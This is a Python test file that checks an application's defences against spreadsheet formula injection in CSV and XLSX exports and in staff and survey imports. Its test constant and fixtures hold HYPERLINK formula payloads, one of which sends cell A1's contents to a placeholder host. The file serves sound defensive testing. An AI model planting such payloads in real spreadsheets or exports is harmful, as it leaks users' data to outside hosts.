"""Text that a spreadsheet would run as a formula leaves QLS as plain text."""

import datetime as dt
import doctest
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from qls.core import exports
from qls.core.exports import neutralise_formula, safe_row, table_response

ATTACK = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_a_leading_quote(start):
    assert neutralise_formula(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    "value", [-3, -2.5, Decimal("-1.25"), 0, None, dt.date(2024, 1, 1), True, "Ward 1", ""]
)
def test_numbers_dates_and_plain_text_pass_through_unchanged(value):
    assert neutralise_formula(value) == value
    assert type(neutralise_formula(value)) is type(value)


def test_safe_row_escapes_only_the_text_cells():
    assert safe_row(["=1+2", -4, "ok", "@SUM(A1)"]) == ["'=1+2", -4, "ok", "'@SUM(A1)"]


def test_csv_export_writes_a_formula_title_as_text():
    response = table_response("Projects", ["Title", "Change"], [[ATTACK, -3]], "csv")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert lines[1].endswith(",-3")


def test_xlsx_export_writes_a_formula_title_as_text_and_keeps_numbers_numeric():
    response = table_response("Projects", ["Title", "Change"], [[ATTACK, -3]], "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    title, change = next(sheet.iter_rows(min_row=2))
    assert title.data_type == "s"
    assert title.value == "'" + ATTACK
    assert change.data_type == "n"
    assert change.value == -3


def test_a_header_cannot_be_a_formula_either():
    response = table_response("x", ["=cmd"], [], "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=1, column=1).value == "'=cmd"
    assert sheet.cell(row=1, column=1).data_type == "s"


def test_examples_in_the_helper_docstring_hold():
    assert doctest.testmod(exports).failed == 0


# ---------------------------------------------------------------- imports refuse formulas


@pytest.fixture
def ward(db):
    from tests.factories.organisation import OrganisationFactory, SiteFactory, WardFactory

    site = SiteFactory(organisation=OrganisationFactory(host=True), code="BAS")
    return WardFactory(site=site, code="BAS-W01", name="Kingfisher Ward")


def test_staff_import_refuses_formula_text_naming_line_and_column(ward):
    from qls.organisation.errors import StaffImportError
    from qls.organisation.models import StaffMember
    from qls.organisation.staff_import.importing import import_staff

    data = (
        b"staff_number,first_name,last_name,email,staff_group,job_role,band,site,ward\n"
        b"10000001,Amy,Baker,,Medical and Dental,Consultant,Medical,BAS,BAS-W01\n"
        b'10000002,"=HYPERLINK(""http://x"")",Khan,,Medical and Dental,@SUM(A1),Medical,BAS,\n'
    )
    with pytest.raises(StaffImportError) as caught:
        import_staff(io.BytesIO(data), filename="staff.csv")
    shown = [str(e) for e in caught.value.errors]
    assert any(m.startswith("Line 3: first_name starts with '='") and "formula" in m for m in shown)
    assert any(m.startswith("Line 3: job_role starts with '@'") for m in shown)
    assert not any("HYPERLINK" in m for m in shown)
    assert not StaffMember.objects.exists()


def test_survey_import_refuses_formula_text_naming_the_line(ward):
    from qls.wards.errors import SurveyImportError
    from qls.wards.models import StaffSurveyResult
    from qls.wards.survey_import import import_survey

    data = (
        b"ward,survey,period,theme,score\n"
        b"BAS-W01,NHS Staff Survey 2024,2024-11-30,Morale,6.1\n"
        b'BAS-W01,NHS Staff Survey 2024,2024-11-30,"=HYPERLINK(""http://x"",""Click"")",6.1\n'
    )
    with pytest.raises(SurveyImportError) as caught:
        import_survey(data, filename="survey.csv")
    problems = dict(caught.value.problems)
    assert "theme starts with '='" in problems[3].lower()
    assert 2 not in problems
    assert not StaffSurveyResult.objects.exists()
